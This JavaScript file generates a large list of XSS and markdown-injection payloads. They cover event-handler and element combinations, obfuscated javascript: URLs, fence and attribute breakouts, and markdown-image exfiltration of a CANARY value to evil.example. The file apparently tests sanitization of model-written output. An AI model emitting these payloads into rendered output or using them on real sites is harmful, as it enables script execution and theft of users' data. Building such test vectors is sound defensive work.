// What somebody could make a model write so that a page does something. Each would call `reached`, open a dialog, or ask
// another host, if any of it came alive.

const CALL = "alert(1)";

/** At least two hundred, by combining what is known: elements, handlers, schemes, and ways to spell them. */
export function vectors() {
  const handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpageshow", "onpointerenter"];
  const elements = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x", "marquee", "select autofocus", "object data=x"];
  const crossed = handlers.flatMap((handler) => elements.map((element) => `<${element} ${handler}=${CALL}>`));
  const schemes = [
    `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java&#10;script:${CALL}`, `&#106;avascript:${CALL}`, `javascript&colon;${CALL}`, `\u0001javascript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `vbscript:${CALL}`, `view-source:javascript:${CALL}`, `blob:${CALL}`, "//evil.example/x", "\\\\evil.example\\x", `javascript://evil.example/%0a${CALL}`,
  ];
  const linked = schemes.flatMap((scheme) => [`[click](${scheme})`, `[click](<${scheme}>)`, `![see](${scheme})`, `<${scheme}>`, `<a href="${scheme}">click</a>`, `[click][ref]\n\n[ref]: ${scheme}`]);
  const whole = [
    `<script>${CALL}</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script\n>${CALL}</script\n>`,
    `<svg><script>${CALL}</script></svg>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><img src=x onerror=${CALL}></template>`, `<style>@import "//evil.example/x.css";</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=preload as=image href=//evil.example/x>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<form action=//evil.example><input type=submit></form>`, `<iframe srcdoc="<script>${CALL}</script>"></iframe>`, `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<embed src=//evil.example/x>`,
    `<img src=//evil.example/?d=CANARY>`, `![a](https://evil.example/?d=CANARY)`, `![a][r]\n\n[r]: https://evil.example/?d=CANARY`, `<img srcset="//evil.example/x 2x">`, `<picture><source srcset=//evil.example/x></picture>`, `<video poster=//evil.example/x>`, `<div style="background:url(//evil.example/x)">`, `<p style="animation-name:x" onanimationend=${CALL}>`,
    "```\n</code></pre><img src=x onerror=alert(1)>\n```", "```html\"><img src=x onerror=alert(1)>\ncode\n```", "```a onmouseover=alert(1) b\ncode\n```", "`<img src=x onerror=alert(1)>`", "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | d |",
    `[a](https://ok.example/"onmouseover="${CALL}")`, `[a](https://ok.example "x\\" onmouseover=\\"${CALL}")`, `[<img src=x onerror=${CALL}>](https://ok.example)`, `[a](https://ok.example/'><img src=x onerror=${CALL}>)`, `# <img src=x onerror=${CALL}> {onclick=${CALL}}`, `## title {#x onclick=${CALL}}`,
    `<!--><img src=x onerror=${CALL}>-->`, `<![CDATA[<img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><img src=x onerror=${CALL}>`, `&lt;img src=x onerror=${CALL}&gt;`, `\\<img src=x onerror=${CALL}>`, `<img src=x onerror=${CALL}//`, `<img/src/onerror=${CALL}>`, `<a href=x onclick=${CALL}>`, `<x onclick=${CALL}>`,
    `"><img src=x onerror=${CALL}>`, `'><svg onload=${CALL}>`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `</div></article></main><script>${CALL}</script>`, `{{constructor.constructor('${CALL}')()}}`, "${alert(1)}", `\r\nevent: whole\r\ndata: {"html":"<img src=x onerror=${CALL}>"}`, `data: {"html":"<script>${CALL}</script>"}`,
  ];
  return [...crossed, ...linked, ...whole];
}
